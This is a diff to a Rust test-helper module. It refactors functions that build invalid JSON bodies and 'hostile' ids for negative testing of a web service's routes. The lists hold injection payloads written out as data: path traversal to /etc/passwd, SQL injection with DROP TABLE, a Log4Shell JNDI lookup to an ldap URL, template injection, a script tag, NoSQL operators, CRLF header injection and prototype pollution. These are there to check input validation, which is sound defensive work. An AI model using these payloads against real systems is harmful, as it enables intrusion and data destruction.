@@ -5,38 +5,43 @@ use shared::http::BODY_LIMIT;
 
 /// JSON bodies no JSON route accepts.
 pub(crate) fn bodies() -> Vec<String> {
-    let mut out: Vec<String> = [
-        "",
-        " ",
-        "{",
-        "}",
-        "not json",
-        "[]",
-        "null",
-        "42",
-        "\"text\"",
-        "{}",
-        "{\"a\":1} trailing",
-        "{\"a\":1}{\"a\":1}",
-        "channel=sms&code=123456",
-        "<channel>sms</channel>",
-        "--x\r\nContent-Disposition: form-data; name=\"channel\"\r\n\r\nsms\r\n--x--",
-        "\u{feff}{\"channel\":\"sms\"}",
-        "{\"channel\":",
-        "{\"channel\":7}",
-        "{\"channel\":\"fax\"}",
-        "{\"channel\":null}",
-        "{\"channel\":\"sms\",\"channel\":\"call\"}",
-        "{\"channel\":\"sms\u{0}\"}",
-        "{\"room\":{\"type\":[],\"id\":{}},\"type\":1e400}",
-        "{\"__proto__\":{\"admin\":true}}",
-    ]
-    .iter()
-    .map(|s| s.to_string())
-    .collect();
-    out.push("[".repeat(10_000));
-    out.push(format!("{{\"channel\":\"{}\"}}", "s".repeat(1 << 20)));
-    out
+    cases(
+        &[
+            "",
+            " ",
+            "{",
+            "}",
+            "not json",
+            "[]",
+            "null",
+            "42",
+            "\"text\"",
+            "{}",
+            "{\"a\":1} trailing",
+            "{\"a\":1}{\"a\":1}",
+            "channel=sms&code=123456",
+            "<channel>sms</channel>",
+            "--x\r\nContent-Disposition: form-data; name=\"channel\"\r\n\r\nsms\r\n--x--",
+            "\u{feff}{\"channel\":\"sms\"}",
+            "{\"channel\":",
+            "{\"channel\":7}",
+            "{\"channel\":\"fax\"}",
+            "{\"channel\":null}",
+            "{\"channel\":\"sms\",\"channel\":\"call\"}",
+            "{\"channel\":\"sms\u{0}\"}",
+            "{\"room\":{\"type\":[],\"id\":{}},\"type\":1e400}",
+            "{\"__proto__\":{\"admin\":true}}",
+        ],
+        [
+            "[".repeat(10_000),
+            format!("{{\"channel\":\"{}\"}}", "s".repeat(1 << 20)),
+        ],
+    )
+}
+
+/// `listed`, then `built`: values too long to write out.
+fn cases(listed: &[&str], built: [String; 2]) -> Vec<String> {
+    listed.iter().map(|s| s.to_string()).chain(built).collect()
 }
 
 /// Content types a client may send (none included).
@@ -61,47 +66,44 @@ pub(crate) const FORMS: [&str; 8] = [
 
 /// Ids that are no valid name, identity part, code or SID anywhere.
 pub(crate) fn hostile() -> Vec<String> {
-    let mut out: Vec<String> = [
-        "",
-        " ",
-        "é",
-        "日本語",
-        "🎥",
-        "a b",
-        "a\u{0}b",
-        "a\nb",
-        "a\r\nX-Injected: 1",
-        "a\tb",
-        "\u{202e}cba",
-        "\u{feff}abc",
-        "\u{7f}",
-        "../../etc/passwd",
-        "..%2f..%2f",
-        "a/b",
-        "a:b",
-        "acme:class:x",
-        "a;b",
-        "a|b",
-        "*",
-        "%00",
-        "' OR '1'='1",
-        "\"; DROP TABLE rooms; --",
-        "${jndi:ldap://example.com/a}",
-        "{{7*7}}",
-        "<script>alert(1)</script>",
-        "$where",
-        "{\"$gt\":\"\"}",
-        "a&b=c",
-        "a#b",
-        "a?b",
-        "a.b",
-    ]
-    .iter()
-    .map(|s| s.to_string())
-    .collect();
-    out.push("a".repeat(65));
-    out.push("a".repeat(BODY_LIMIT / 64));
-    out
+    cases(
+        &[
+            "",
+            " ",
+            "é",
+            "日本語",
+            "🎥",
+            "a b",
+            "a\u{0}b",
+            "a\nb",
+            "a\r\nX-Injected: 1",
+            "a\tb",
+            "\u{202e}cba",
+            "\u{feff}abc",
+            "\u{7f}",
+            "../../etc/passwd",
+            "..%2f..%2f",
+            "a/b",
+            "a:b",
+            "acme:class:x",
+            "a;b",
+            "a|b",
+            "*",
+            "%00",
+            "' OR '1'='1",
+            "\"; DROP TABLE rooms; --",
+            "${jndi:ldap://example.com/a}",
+            "{{7*7}}",
+            "<script>alert(1)</script>",
+            "$where",
+            "{\"$gt\":\"\"}",
+            "a&b=c",
+            "a#b",
+            "a?b",
+            "a.b",
+        ],
+        ["a".repeat(65), "a".repeat(BODY_LIMIT / 64)],
+    )
 }
 
 /// Well-formed names that are not Twilio SIDs (bad where a SID is due).
